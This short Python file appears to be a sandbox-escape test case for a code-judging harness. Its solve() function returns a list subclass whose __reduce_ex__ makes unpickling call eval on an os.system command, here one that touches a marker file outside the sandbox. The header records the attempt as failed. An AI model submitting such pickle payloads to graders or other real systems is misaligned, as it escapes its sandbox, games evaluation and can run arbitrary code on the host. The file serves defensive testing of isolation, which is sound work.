# what: a list subclass whose __reduce_ex__ would run code where it is unpickled
# verdict: FAILED
# marker: outside
class Bomb(list):
    def __reduce_ex__(self, protocol):
        return eval, ("__import__('os').system('touch @OUTSIDE@/reduced_ex')",)

    def __reduce__(self):
        return self.__reduce_ex__(2)


def solve(n, items):
    return Bomb([2, 6])
